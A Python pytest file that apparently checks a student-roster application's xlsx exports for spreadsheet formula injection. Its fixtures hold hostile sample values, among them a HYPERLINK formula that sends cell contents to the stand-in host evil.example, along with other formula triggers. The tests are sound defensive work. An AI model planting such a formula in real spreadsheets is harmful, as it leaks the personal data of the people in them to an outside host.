"""Finding 7: text a graduate or a school typed never becomes a formula in an exported xlsx."""

from __future__ import annotations

import io
import pathlib

import pytest
from openpyxl import load_workbook

from core.spreadsheets import safe_cell
from tests.factories.students import college_admin, import_rows, roster_row
from tests.utils import ADMIN_PASSWORD, logged_in_client

EVIL_ORIGIN = '=HYPERLINK("http://evil.example/?"&A2&D2,"点击核对")'
EVIL_EMAIL = "=1+2@x.example.com"
EVIL_COLLEGE = "=1+1学院"


def cells(content: bytes):
    """Every cell of every sheet, as openpyxl reads the file (formulas keep data_type 'f')."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def poisoned(school_a):
    outcome = import_rows(
        school_a,
        [
            roster_row(41, 生源地=EVIL_ORIGIN, college=EVIL_COLLEGE),
            roster_row(42, 邮箱=EVIL_EMAIL, 班级="@SUM(1,2)"),
            roster_row(43, 生源地="+86 湖南", 班级="-2+3"),
        ],
    )
    assert outcome.applied, [e.as_dict() for e in outcome.errors]
    college_admin(school_a, "evil_teacher", [EVIL_COLLEGE])
    return school_a


@pytest.mark.parametrize(
    "path",
    ["/students/export.xlsx", "/api/v1/students/export.xlsx", "/destinations/dashboard.xlsx"],
)
def test_exports_hold_no_formula(poisoned, path):
    admin = logged_in_client(poisoned, "admin", ADMIN_PASSWORD)
    response = admin.get(path)
    assert response.status_code == 200, response.content[:500]
    every = cells(response.content)
    assert every
    formulas = [c.coordinate + ":" + str(c.value) for c in every if c.data_type == "f"]
    assert formulas == []
    texts = [str(c.value) for c in every if c.value is not None]
    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
    if "students" in path:
        # The teacher still reads what was typed, only marked as text.
        assert "'" + EVIL_ORIGIN in texts and "'" + EVIL_EMAIL in texts
        assert "'" + EVIL_COLLEGE in texts and "'-2+3" in texts and "'+86 湖南" in texts
    else:
        assert "'" + EVIL_COLLEGE in texts


def test_the_import_template_holds_no_formula(school_a):
    admin = logged_in_client(school_a, "admin", ADMIN_PASSWORD)
    assert [
        c for c in cells(admin.get("/students/template.xlsx").content) if c.data_type == "f"
    ] == []


def test_safe_cell_neutralises_every_trigger():
    for text in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1+1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("湖南=长沙") == "湖南=长沙"
    assert safe_cell("a\x01b") == "ab"  # xlsx can't hold control characters
    assert safe_cell(-5) == -5 and safe_cell(None) is None


def test_workbooks_are_only_built_in_core_spreadsheets():
    """One place neutralises cells: no other module of the product builds a workbook itself."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in {".venv", ".data", "tests", "bench"}:
            continue
        text = path.read_text(encoding="utf-8")
        if "import Workbook" in text or "openpyxl.Workbook" in text:
            offenders.append(str(relative))
    assert offenders == ["core/spreadsheets.py"]
